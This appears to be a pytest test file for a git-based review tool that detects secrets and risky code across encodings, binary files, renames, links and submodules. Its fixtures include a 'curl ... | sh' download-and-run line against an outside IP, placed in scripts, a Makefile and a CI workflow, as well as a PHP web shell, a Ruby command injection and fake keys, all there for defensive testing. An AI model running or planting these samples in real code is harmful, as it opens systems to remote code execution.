"""What a file can be: every kind of content and of change is read right, or named as not read."""

import os
import random
import re
import subprocess
from pathlib import Path

import pytest
from examples import table
from in_process import inspect
from repositories import Repo, key, placed

from cli_guard.errors import MissingObject
from cli_guard.git.contents import BlobContents, BlobReader
from cli_guard.git.process import Git
from cli_guard.model import Decision, FileChange, Status
from cli_guard.repository.texts import decode, printable_runs, runs_between
from cli_guard.review.request import Commit, Request, Staged, Worktree

SECRET = f'KEY = "{key()}"\n'
POINTER = (
    f"version https://git-lfs.github.com/spec/v1\noid sha256:{'4d7a' * 16}\nsize 1234\n"
)

BINARY = bytes(range(256)) * 4


def stage(repo: Repo, name: str, content: str | bytes) -> None:
    """Writes a file and stages it."""
    repo.write(name, content)
    repo.git("add", "-A")


@pytest.mark.parametrize(
    ("content", "line"),
    [
        pytest.param(b"a = 1\r\n" + SECRET.encode().replace(b"\n", b"\r\n"), 2, id="CRLF"),
        pytest.param(b"a = 1\n" + SECRET.encode().rstrip(), 2, id="no final newline"),
        pytest.param(b"# caf\xe9\n\n" + SECRET.encode(), 3, id="latin-1"),
        pytest.param(b"\xef\xbb\xbf" + SECRET.encode(), 1, id="UTF-8 with a mark"),
        pytest.param(f"a = 1\nb = 2\n{SECRET}".encode("utf-16"), 3, id="UTF-16 LE"),
        pytest.param(
            b"\xfe\xff" + f"a = 1\nb = 2\n{SECRET}".encode("utf-16-be"), 3, id="UTF-16 BE"
        ),
        pytest.param(f"a = 1\n{SECRET}".encode("utf-32"), 2, id="UTF-32"),
        pytest.param(
            b"a\x0cb\x0bc\x1c\rd\xc2\x85e\xe2\x80\xa8\n" + SECRET.encode(),
            2,
            id="line ends that are none",
        ),
        pytest.param(
            b"-- a\n++ b\n@@ -1 +1 @@\ndiff --git a/x b/x\n" + SECRET.encode(),
            5,
            id="looks like a patch",
        ),
        pytest.param(b"x\0" + SECRET.encode(), 1, id="one NUL"),
        pytest.param(
            f"a = 1\n{SECRET}".encode("utf-16-le"), 2, id="UTF-16 LE without a mark"
        ),
        pytest.param(
            f"a = 1\n{SECRET}".encode("utf-16-be"), 2, id="UTF-16 BE without a mark"
        ),
        pytest.param(
            b"x\n" * 9_000 + b"\0\n" + SECRET.encode(), 9_002, id="a NUL far down"
        ),
    ],
)
@pytest.mark.parametrize(
    "request_", [Staged(), Worktree(), Commit("HEAD")], ids=["staged", "worktree", "commit"]
)
def test_a_secret_is_found_on_its_line(
    committed: Repo, content: bytes, line: int, request_: Request
) -> None:
    committed.write("new.txt", content)
    if not isinstance(request_, Worktree):
        committed.git("add", "-A")
    if isinstance(request_, Commit):
        committed.git("commit", "-q", "-m", "New")
    assert placed(committed.look(request_)) == [("new.txt", line)]


@pytest.mark.parametrize("encoding", ["utf-16", "latin-1", "utf-8"])
def test_a_secret_added_to_a_file_is_the_only_one_reported(
    committed: Repo, encoding: str
) -> None:
    committed.commit("Old", {"old.txt": f"é\n{SECRET}b = 1\n".encode(encoding)})
    fresh = SECRET.replace("KEY", "FRESH")
    stage(committed, "old.txt", f"é\n{SECRET}b = 1\nc = 2\n{fresh}".encode(encoding))
    assert placed(committed.look()) == [("old.txt", 5)]


def test_an_attribute_does_not_hide_text(committed: Repo) -> None:
    committed.write(".gitattributes", "*.py -diff\n*.cfg binary\n")
    committed.write("key.cfg", SECRET)
    stage(committed, "app.py", "x = 1\n" + SECRET)
    assert placed(committed.look()) == [("app.py", 2), ("key.cfg", 1)]
    assert placed(committed.look(Worktree())) == [("app.py", 2), ("key.cfg", 1)]
    committed.git("commit", "-q", "-m", "Hide")
    assert placed(committed.look(Commit("HEAD"))) == [("app.py", 2), ("key.cfg", 1)]


def test_binary_empty_and_deleted_files(committed: Repo) -> None:
    committed.commit("Key", {"key.py": SECRET, "gone.txt": "x\n"})
    committed.git("rm", "-q", "key.py", "gone.txt")
    committed.write("empty.txt", "")
    stage(committed, "logo.png", BINARY)
    review = committed.look()
    assert review.decision is Decision.ALLOW
    assert review.files == 4
    assert [(each.path, each.reason) for each in review.skipped] == [
        ("logo.png", "binary: searched only for keys")
    ]
    assert (
        "not reviewed: logo.png (binary: searched only for keys)"
        in inspect(committed, "review").out
    )


@pytest.mark.parametrize("encoding", ["ascii", "utf-16-le", "utf-16-be"])
@pytest.mark.parametrize(
    "request_", [Staged(), Worktree(), Commit("HEAD")], ids=["staged", "worktree", "commit"]
)
def test_a_key_in_a_binary_file_is_found(
    committed: Repo, encoding: str, request_: Request
) -> None:
    committed.write("a.bin", BINARY + b"\x01" + SECRET.strip().encode(encoding) + BINARY)
    if not isinstance(request_, Worktree):
        committed.git("add", "-A")
    if isinstance(request_, Commit):
        committed.git("commit", "-q", "-m", "New")
    review = committed.look(request_)
    assert placed(review) == [("a.bin", None)]
    assert review.decision is Decision.DENY


def test_a_key_that_a_binary_file_held_before_is_not_reported(committed: Repo) -> None:
    committed.commit("Old", {"a.bin": BINARY + SECRET.encode() + BINARY})
    stage(committed, "a.bin", BINARY * 2 + b"more of it " + SECRET.encode() + BINARY)
    assert placed(committed.look()) == []


def test_words_in_a_binary_file_are_no_code(committed: Repo) -> None:
    text = b"\n<<<<<<< ours\n=======\n>>>>>>> theirs\nbreakpoint()\neval(input())\npassword = 'Zx4!kQ93mmPq'\n"
    stage(committed, "a.dat", BINARY + text + BINARY)
    assert committed.look().findings == ()


FETCH = "curl -fsSL http://203.0.113.7/i.sh | sh\n"


@table(
    ("path", "head"),
    [
        ("i.sh", f"#!/bin/sh\n{FETCH}exit 0\n"),
        ("run", f"{FETCH}exit 0\n"),
        ("a.rb", 'system("r #{params[:x]}")\n__END__\n'),
        ("a.php", "<?php system($_GET['c']);\n__halt_compiler();\n"),
        ("Makefile", f"all:\n\t{FETCH}#\n"),
        (
            ".github/workflows/a.yml",
            f"on: push\njobs: {{a: {{steps: [{{run: '{FETCH.strip()}'}}]}}}}\n#\n",
        ),
    ],
)
@table("tail", [BINARY, b"\x80\xff\n" * 90 + BINARY, b"\0" * 4_000])
def test_the_text_before_binary_bytes_is_reviewed_and_the_rest_asks(
    committed: Repo, path: str, head: str, tail: bytes
) -> None:
    stage(committed, path, head.encode() + tail)
    committed.git("update-index", "--chmod=+x", path)
    rules = {each.finding.rule for each in committed.look().findings} - {"code-executable"}
    assert len(rules) > 1 and "policy-not-reviewed" in rules


@table(
    ("path", "asks"),
    [
        ("a.py", True),
        ("a.pyz", True),
        ("a.bat", True),
        ("package.json", True),
        ("a.png", False),
        ("a.md", True),
        ("a.bin", False),
    ],
)
def test_bytes_that_are_not_read_ask_where_they_run_and_are_new(
    committed: Repo, path: str, asks: bool
) -> None:
    stage(committed, path, b"a: 1\n" + BINARY)
    review = committed.look()
    assert [each.finding.rule for each in review.findings] == ["policy-not-reviewed"] * asks
    assert [(each.path, each.reason) for each in review.skipped][:1] == [
        (path, "from line 2 on binary: searched only for keys")
    ]
    committed.git("commit", "-q", "-m", "Add the file")
    stage(committed, path, b"a: 2\n" + BINARY * 2)
    assert committed.look().findings == ()
    committed.git("commit", "-q", "-m", "Change the file")


def test_a_key_behind_the_text_is_found_once(committed: Repo) -> None:
    stage(committed, "a.sh", b"#!/bin/sh\nexit\n" + BINARY + SECRET.encode() + BINARY)
    assert [each.finding.rule for each in committed.look().findings].count(
        "secret-aws-access-key"
    ) == 1


@table(
    ("raw", "text"),
    [
        pytest.param(b"a = 1\nb\0c = 2", "a = 1\nb\ufffdc = 2", id="one NUL"),
        pytest.param(b"\0" * 9, None, id="NULs alone"),
        pytest.param(
            "é\n".encode("utf-16-be") + "a = 1\n".encode("utf-16-be"), "é\na = 1\n", id="BE"
        ),
        pytest.param(
            b"a b " * 99 + b"\0" + "日本".encode(), "a b " * 99 + "\ufffd日本", id="UTF-8"
        ),
        pytest.param(b"a\0" + bytes(range(1, 32)), None, id="controls"),
        pytest.param(bytes(range(128, 256)) + b"\0", None, id="no UTF-8"),
        pytest.param(b"\x01\0\x02\0\x03\0" * 9, None, id="numbers"),
    ],
)
def test_what_is_text(raw: bytes, text: str | None) -> None:
    assert decode(raw) == text


def test_runs_of_text_in_binary_files() -> None:
    wide = "wide text"
    for encoded in (wide.encode("utf-16-le"), wide.encode("utf-16-be")):
        assert printable_runs(
            b"\x01short\x01\x80long enough\nhere\x80" + encoded + b"\xff"
        ) == [
            "long enough\nhere",
            wide,
        ]
    (hunk,) = runs_between(
        b"\x01the same\x01what goes", b"\x02the same\x02what comes\x02and more"
    )
    assert (hunk.removed, hunk.added) == (("what goes",), ("what comes", "\0and more"))
    assert runs_between(b"\x01the same\x01what goes", b"the same") == ()


def test_a_rename_is_reviewed_for_its_new_lines(committed: Repo) -> None:
    committed.commit("Key", {"old.py": SECRET + "a = 1\n" * 9})
    committed.git("mv", "old.py", "new.py")
    assert placed(committed.look()) == []
    stage(committed, "new.py", SECRET + "a = 1\n" * 9 + SECRET.replace("KEY", "FRESH"))
    assert placed(committed.look()) == [("new.py", 11)]


def test_a_copy_brings_its_secret_to_a_new_place(committed: Repo) -> None:
    committed.commit("Key", {"old.py": SECRET})
    stage(committed, "copy.py", SECRET)
    assert placed(committed.look()) == [("copy.py", 1)]


def test_a_change_of_mode_has_no_lines(committed: Repo) -> None:
    committed.commit("Key", {"key.py": SECRET})
    (committed.path / "key.py").chmod(0o755)
    assert placed(committed.look(Worktree())) == []
    committed.git("add", "-A")
    review = committed.look()
    assert (review.files, placed(review)) == (1, [])


@pytest.mark.parametrize("request_", [Staged(), Worktree()], ids=["staged", "worktree"])
def test_the_target_of_a_link_is_read_and_never_followed(
    committed: Repo, request_: Request, tmp_path: Path
) -> None:
    outside = tmp_path / "outside.py"
    outside.write_text(SECRET)
    (committed.path / "outside.py").symlink_to(outside)
    (committed.path / "key.py").symlink_to(f"https://user:{key('github')}@example.org/")
    (committed.path / "app.py").unlink()
    (committed.path / "app.py").symlink_to("nowhere")
    if isinstance(request_, Staged):
        committed.git("add", "-A")
    review = committed.look(request_)
    assert [place for place in placed(review) if place[0] != "key.py"] == []
    assert ("key.py", 1) in placed(review)


def test_a_link_that_becomes_a_file_is_read(committed: Repo) -> None:
    (committed.path / "link").symlink_to("app.py")
    committed.commit("Link")
    (committed.path / "link").unlink()
    stage(committed, "link", "a = 1\n" + SECRET)
    assert placed(committed.look()) == [("link", 2)]


def test_a_pointer_of_git_lfs_is_quiet(committed: Repo) -> None:
    committed.write(".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n")
    committed.write("big.bin", POINTER)
    committed.git("-c", "filter.lfs.clean=cat", "add", "-A")
    review = committed.look()
    assert (review.decision, review.findings) == (Decision.ALLOW, ())


def test_a_submodule_is_left_to_its_own_repository(
    committed: Repo, isolated: dict[str, str]
) -> None:
    library = Repo.create(committed.path.parent / "library", isolated)
    first = library.commit("Start", {"lib.py": "a = 1\n"})
    committed.git(
        "-c",
        "protocol.file.allow=always",
        "submodule",
        "add",
        "-q",
        str(library.path),
        "lib",
    )
    committed.commit("Add a submodule")
    inner = Repo(committed.path / "lib", isolated)
    inner.commit("Key", {"key.py": SECRET})
    # Whoever says `ignore = all` does not want to see it; what is recorded is told all the same.
    committed.git("config", "-f", ".gitmodules", "submodule.lib.ignore", "all")
    committed.git("add", ".gitmodules")
    committed.git("commit", "-q", "-m", "Ignore")
    committed.git(
        "update-index", "--cacheinfo", f"160000,{inner.git('rev-parse', 'HEAD')},lib"
    )
    review = committed.look()
    assert (review.files, placed(review)) == (1, [])
    assert [(each.path, each.reason) for each in review.skipped] == [
        ("lib", "a submodule: review it in its own repository")
    ]
    assert first != inner.git("rev-parse", "HEAD")
    committed.write("lib/more.py", SECRET)
    assert placed(committed.look(Worktree())) == []


@pytest.mark.parametrize(
    "others", [{}, {"a.py": "y = 2\n", "zz.py": "z = 3\n"}], ids=["alone", "among changes"]
)
def test_a_file_of_which_only_the_time_differs_is_no_change(
    committed: Repo, others: dict[str, str]
) -> None:
    committed.commit("Others", dict.fromkeys(others, "old = 1\n"))
    # Git trusts a time stamp that is older than its index.
    past = committed.path / "app.py"
    os.utime(past, (1_700_000_000, 1_700_000_000))
    committed.git("update-index", "--refresh")
    past.touch()
    for name, text in others.items():
        committed.write(name, text)
    review = committed.look(Worktree())
    assert (review.files, review.skipped) == (len(others), ())


def test_work_tree_files_that_cannot_be_read(committed: Repo) -> None:
    committed.write("nested/key.py", SECRET)
    committed.git("init", "-q", at="nested")
    committed.write("ignored.log", SECRET)
    committed.write(".gitignore", "*.log\n")
    subprocess.run(["mkfifo", str(committed.path / "pipe")], check=True)
    (committed.path / "app.py").unlink()
    review = committed.look(Worktree())
    assert placed(review) == []
    assert {each.path for each in review.skipped} == {"nested"}


def test_a_missing_object_is_one_clear_line(committed: Repo) -> None:
    committed.commit("Second", {"second.py": "x = 2\n"})
    stage(committed, "new.py", "a = 1\n")
    # Git takes a file of the work tree for its blob, if it has not changed since it was staged.
    (committed.path / "new.py").unlink()
    commit = committed.git("rev-parse", "HEAD")
    for revision in (":new.py", f"{commit}^{{tree}}", commit):
        blob = committed.git("rev-parse", revision)
        file = committed.path / ".git" / "objects" / blob[:2] / blob[2:]
        content = file.read_bytes()
        file.chmod(0o644)
        file.unlink()
        done = inspect(committed, "review")
        assert (done.code, done.out) == (2, ""), revision
        assert len(done.err.splitlines()) == 1
        assert "git fsck" in done.err
        assert blob in done.err or revision in done.err
        file.write_bytes(content)


@pytest.mark.parametrize(
    "path", ["../app.py", "./a/../../app.py", "./../app.py", "a/../app.py"]
)
def test_a_path_that_leads_out_of_the_repository_ends_no_reading(
    committed: Repo, path: str
) -> None:
    """Git ends at some of them, and all that was asked later seemed missing."""
    with BlobReader(Git(committed.path, committed.env), blob_limit=1000) as reader:
        for revision in ("HEAD", "", ":0"):
            with pytest.raises(MissingObject):
                reader.read(f"{revision}:{path}")
        assert reader.read("HEAD:app.py")


def test_words_are_found_in_the_index_and_in_a_commit(committed: Repo) -> None:
    committed.commit(
        "one",
        {"a.py": "import Flask\n", "b/c.txt": "flask-login, flask\n", "d.bin": b"\0flask"},
    )
    committed.write("a.py", "import requests\n")
    committed.git("add", "-A")
    git = Git(committed.path, committed.env)

    def found(contents: BlobContents, *words: str) -> list[tuple[str, str]]:
        return [
            (hit.path, hit.text) for hit in contents.search(words, ("*",), alone=True).found
        ]

    with BlobReader(git, blob_limit=10) as reader:
        assert found(BlobContents(reader), "flask", "nothing") == [("b/c.txt", "flask")] * 2
        assert ("a.py", "Flask") in found(
            BlobContents(reader, "HEAD"), "flask", "flask-login"
        )
        assert found(BlobContents(reader, "HEAD"), "requests") == []


def test_runs_of_text_are_those_of_a_pattern() -> None:
    shown = rb"[\t\n\r\x20-\x7e]"
    plain = re.compile(shown + rb"{8,}")
    wide = re.compile(shown + rb"(?:\0" + shown + rb"){7,}+")
    rng = random.Random(35)
    for _ in range(3_000):
        pieces = (
            rng.choice((b"a\0", b"\0b", b"c", b"\n", b"\xff", b"\0"))
            * rng.choice((1, 1, 2, 6, 7, 8, 9))
            for _ in range(rng.randrange(9))
        )
        raw = b"".join(pieces)
        expected = [each.decode() for each in plain.findall(raw)]
        expected += [each[::2].decode() for each in wide.findall(raw)]
        assert printable_runs(raw) == expected, raw


@pytest.mark.parametrize("name", ["a.py", "none.py", "large.py", "b.bin"])
def test_what_is_read_in_advance_is_the_same(committed: Repo, name: str) -> None:
    stage(committed, "a.py", SECRET)
    stage(committed, "large.py", "a = 1\n" * 900)
    stage(committed, "b.bin", BINARY)
    change = FileChange(name, Status.ADDED, new_blob=f":{name}")
    with BlobReader(Git(committed.path, committed.env), blob_limit=1_000) as reader:
        contents = BlobContents(reader)
        contents.prefetch([":a.py", ":none.py", ":large.py", ":b.bin", ":a.py"])
        # What is known is not asked for again.
        reader.close()
        if name == "none.py":
            with pytest.raises(MissingObject):
                contents.new(change)
        else:
            assert contents.new(change) == BlobContents(reader).new(change)


@table(
    ("folder", "found"),
    [
        ("src", True),
        ("src/", True),
        ("./src/../src", True),
        ("src/a.py", False),
        ("", True),
        (".", True),
        ("/", False),
        ("..", False),
        ("../x", False),
        ("src/../../x", False),
        ("a\0b", False),
        (":(top)src", False),
    ],
)
def test_a_folder_is_looked_for_in_the_repository_alone(
    committed: Repo, folder: str, found: bool
) -> None:
    committed.commit("Source", {"src/a.py": "a = 1\n"})
    with BlobReader(Git(committed.path, committed.env), blob_limit=10) as reader:
        for contents in (BlobContents(reader), BlobContents(reader, "HEAD")):
            assert contents.has_files_in(folder) is found
